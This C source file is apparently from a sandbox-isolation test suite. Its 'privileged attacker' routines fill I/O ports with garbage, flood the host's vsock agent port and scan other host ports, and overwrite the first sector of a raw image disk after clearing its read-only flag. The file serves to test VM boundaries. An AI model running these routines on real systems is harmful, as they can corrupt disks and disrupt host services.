/* --privileged-attacker: with every capability and no seccomp, what the
 * VM boundary itself holds against: I/O ports, a vsock flood of the
 * host's agent port, raw block devices.
 * MODE "hit" only where the kernel is the sandbox's own (the VM): there
 * the attack is made for real against the VMM's devices. "probe" (a
 * shared kernel: the host's) only shows that the door is open and never
 * goes through it: no write to this host's ports, disks or vsock. */
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/vm_sockets.h>
#include <stdio.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <unistd.h>

#include "attacker.h"
#include "inside.h"

/* I/O ports: iopl(3), then garbage written to every port but the ones
 * that end the machine or its interrupts (i8042 0x60/0x64, 0x92, 0xcf9,
 * the exit port 0x440-0x441, PIC, PIT, RTC, ELCR, the serial data port),
 * then every port read back. The VMM's bus answers them all. */
int a_ports(const char *mode)
{
	long r = iopl(3);
	res("iopl", r, 0);
	if (r < 0 || strcmp(mode, "hit")) {
		if (r == 0)
			iopl(0);
		return 0;
	}
	static const struct { unsigned lo, hi; } keep[] = {
		{ 0x20, 0x21 }, { 0x40, 0x43 }, { 0x60, 0x64 }, { 0x70, 0x71 }, { 0x92, 0x92 },
		{ 0xa0, 0xa1 }, { 0x3f8, 0x3f8 }, { 0x440, 0x441 }, { 0x4d0, 0x4d1 }, { 0xcf8, 0xcff },
	};
	unsigned long seed = 0x9e3779b97f4a7c15UL, written = 0, ones = 0;
	for (unsigned round = 0; round < 2; round++)
		for (unsigned p = 0; p <= 0xffff; p++) {
			size_t i;
			for (i = 0; i < sizeof(keep) / sizeof(keep[0]); i++)
				if (p >= keep[i].lo && p <= keep[i].hi)
					break;
			if (i < sizeof(keep) / sizeof(keep[0]))
				continue;
			seed = seed * 6364136223846793005UL + 1442695040888963407UL;
			outb((unsigned char)(seed >> 56), (unsigned short)p);
			written++;
			ones += inb((unsigned short)p) == 0xff;
		}
	iopl(0);
	printf("ports_written=%lu\nreads_all_ones=%lu\n", written, ones);
	return 0;
}

/* vsock: the host (CID 2): 64 connections to the agent's port 1024, each
 * sent 64 KiB of garbage frames, and one connection to each of ports
 * 1..512. */
int a_vsock_flood(const char *mode)
{
	int s = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
	res("socket", s, 0);
	if (s < 0 || strcmp(mode, "hit")) {
		if (s >= 0)
			close(s);
		return 0;
	}
	close(s);
	static char junk[65536];
	unsigned long seed = 42;
	for (size_t i = 0; i < sizeof(junk); i++) {
		seed = seed * 6364136223846793005UL + 1442695040888963407UL;
		junk[i] = (char)(seed >> 56);
	}
	int fds[64], connected = 0, refused = 0;
	long sent = 0;
	for (int i = 0; i < 64; i++) {
		fds[i] = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
		struct sockaddr_vm a = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = 1024 };
		struct timeval tv = { 2, 0 };
		setsockopt(fds[i], SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
		if (fds[i] >= 0 && connect(fds[i], (struct sockaddr *)&a, sizeof(a)) == 0) {
			connected++;
			ssize_t n = send(fds[i], junk, sizeof(junk), MSG_NOSIGNAL);
			if (n > 0)
				sent += n;
		} else {
			refused++;
		}
	}
	for (int i = 0; i < 64; i++)
		if (fds[i] >= 0)
			close(fds[i]);
	int other = 0;
	for (unsigned port = 1; port <= 512; port++) {
		int f = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
		struct sockaddr_vm a = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = port };
		if (f >= 0 && connect(f, (struct sockaddr *)&a, sizeof(a)) == 0) {
			other++;
			send(f, junk, 4096, MSG_NOSIGNAL);
		}
		if (f >= 0)
			close(f);
	}
	printf("agent_port_connected=%d\nagent_port_refused=%d\nbytes_sent=%ld\nother_ports_connected=%d\n",
	       connected, refused, sent, other);
	return 0;
}

/* Block devices: mknod each (on a tmpfs of our own without nodev: the
 * root is nodev); "hit" makes vda (the image disk, read-only at the
 * virtio level) writable in the guest kernel (BLKROSET 0), writes garbage
 * to its first sector and fsyncs, so the write request reaches the VMM;
 * "probe" only reads (a host's disks are never written). */
struct rawdisk_try {
	const char *node;
	int hit, tried;
};

static int rawdisk_one(const char *name, unsigned maj, unsigned min, void *arg)
{
	struct rawdisk_try *t = arg;
	char sec[512];
	if (t->hit && strcmp(name, "vda"))
		return 0;
	t->tried++;
	unlink(t->node);
	if (mknod(t->node, S_IFBLK | 0600, makedev(maj, min))) {
		printf("mknod=%s\n", ename(errno));
		return 1;
	}
	int fd = open(t->node, (t->hit ? O_RDWR : O_RDONLY) | O_CLOEXEC);
	if (fd < 0 && t->hit && (errno == EROFS || errno == EACCES)) {
		int ro = open(t->node, O_RDONLY | O_CLOEXEC), zero = 0;
		res("blkroset", ro < 0 ? -1 : ioctl(ro, BLKROSET, &zero), 0);
		if (ro >= 0)
			close(ro);
		fd = open(t->node, O_RDWR | O_CLOEXEC);
	}
	unlink(t->node);
	if (fd < 0) {
		printf("device=%s\nopen=%s\n", name, ename(errno));
		return 0;
	}
	ssize_t n = pread(fd, sec, sizeof(sec), 0);
	printf("device=%s\nread=%s\n", name, n == (ssize_t)sizeof(sec) ? "OK" : n < 0 ? ename(errno) : "short");
	if (t->hit) {
		memset(sec, 0xa5, sizeof(sec));
		n = pwrite(fd, sec, sizeof(sec), 0);
		printf("write=%s\n", n == (ssize_t)sizeof(sec) ? "OK" : n < 0 ? ename(errno) : "short");
		printf("fsync=%s\n", fsync(fd) ? ename(errno) : "OK");
	}
	close(fd);
	return !t->hit && n == (ssize_t)sizeof(sec);
}

int a_rawdisk(const char *mode)
{
	struct rawdisk_try t = { "/.attacker-dev/disk", !strcmp(mode, "hit"), 0 };
	const char *dir = "/.attacker-dev";
	int seen;
	mkdir(dir, 0700);
	long m = mount("tmpfs", dir, "tmpfs", MS_NOSUID | MS_NOEXEC, "mode=700");
	res("mount_dev_tmpfs", m, 0);
	if (m < 0)
		t.node = "/.attacker-disk";
	inside_blkdevs(rawdisk_one, &t, &seen);
	if (m == 0)
		umount2(dir, MNT_DETACH);
	rmdir(dir);
	printf("devices_tried=%d\n", t.tried);
	return 0;
}
